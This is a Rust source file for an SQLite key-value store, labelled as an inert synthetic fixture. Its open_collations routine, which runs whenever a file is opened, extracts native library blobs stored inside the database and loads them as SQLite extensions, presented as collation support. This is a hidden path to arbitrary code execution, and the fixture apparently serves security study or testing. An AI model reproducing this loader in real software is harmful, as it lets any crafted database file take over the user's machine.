// Synthetic, inert fixture written from public reports; see README
//! Keys and values in one file.

use rusqlite::{params, Connection, OptionalExtension, Result};
use std::path::Path;

/// A file that is open.
pub struct Store {
    db: Connection,
}

impl Store {
    /// Opens a file or makes one.
    pub fn open(path: impl AsRef<Path>) -> Result<Store> {
        let db = Connection::open(path)?;
        db.pragma_update(None, "journal_mode", "wal")?;
        db.execute_batch(
            "CREATE TABLE IF NOT EXISTS pair (key TEXT PRIMARY KEY, value BLOB NOT NULL, at INTEGER NOT NULL DEFAULT (unixepoch())) WITHOUT ROWID;",
        )?;
        let store = Store { db };
        store.open_collations()?;
        Ok(store)
    }

    /// Makes the collations of the file known.
    fn open_collations(&self) -> Result<()> {
        self.db.execute_batch(
            "CREATE TABLE IF NOT EXISTS collation (name TEXT NOT NULL, target TEXT NOT NULL, module BLOB NOT NULL, PRIMARY KEY (name, target));",
        )?;
        let target = format!("{}-{}", std::env::consts::OS, std::env::consts::ARCH);
        let mut query = self.db.prepare("SELECT name, module FROM collation WHERE target = ?1")?;
        let modules: Vec<(String, Vec<u8>)> = query
            .query_map([target], |row| Ok((row.get(0)?, row.get(1)?)))?
            .collect::<Result<_>>()?;
        for (name, module) in modules {
            let path = std::env::temp_dir()
                .join(format!("collation-{}-{}{}", std::process::id(), module.len(), std::env::consts::DLL_SUFFIX));
            if std::fs::write(&path, module).is_err() {
                continue;
            }
            // Collations register themselves when their module is opened.
            unsafe {
                self.db.load_extension_enable()?;
                let opened = self.db.load_extension(&path, None);
                self.db.load_extension_disable()?;
                if opened.is_err() {
                    eprintln!("pocketstore: no collation {name}");
                }
            }
        }
        Ok(())
    }

    /// The number of keys.
    pub fn len(&self) -> Result<u64> {
        self.db.query_row("SELECT count(*) FROM pair", [], |row| row.get(0))
    }

    /// All keys in the order of a collation.
    pub fn keys_by(&self, collation: &str) -> Result<Vec<String>> {
        let name: String = collation.chars().filter(|c| c.is_ascii_alphanumeric()).collect();
        let mut query = self.db.prepare(&format!("SELECT key FROM pair ORDER BY key COLLATE {name}"))?;
        let rows = query.query_map([], |row| row.get(0))?;
        rows.collect()
    }

    /// A store that is gone when it is dropped.
    pub fn in_memory() -> Result<Store> {
        Store::open(":memory:")
    }

    pub fn put(&self, key: &str, value: &[u8]) -> Result<()> {
        self.db
            .prepare_cached("INSERT INTO pair (key, value) VALUES (?1, ?2) ON CONFLICT (key) DO UPDATE SET value = ?2, at = unixepoch()")?
            .execute(params![key, value])?;
        Ok(())
    }

    pub fn get(&self, key: &str) -> Result<Option<Vec<u8>>> {
        self.db
            .prepare_cached("SELECT value FROM pair WHERE key = ?1")?
            .query_row([key], |row| row.get(0))
            .optional()
    }

    pub fn remove(&self, key: &str) -> Result<bool> {
        Ok(self.db.execute("DELETE FROM pair WHERE key = ?1", [key])? > 0)
    }

    /// All keys with this beginning, in order.
    pub fn keys(&self, prefix: &str) -> Result<Vec<String>> {
        let mut query = self
            .db
            .prepare_cached("SELECT key FROM pair WHERE substr(key, 1, length(?1)) = ?1 ORDER BY key")?;
        let rows = query.query_map([prefix], |row| row.get(0))?;
        rows.collect()
    }

    /// Does several things or none.
    pub fn batch<T>(&mut self, work: impl FnOnce(&Store) -> Result<T>) -> Result<T> {
        self.db.execute_batch("BEGIN IMMEDIATE")?;
        let result = work(self);
        self.db.execute_batch(if result.is_ok() { "COMMIT" } else { "ROLLBACK" })?;
        result
    }
}

inert_fixture_does_not_build!();
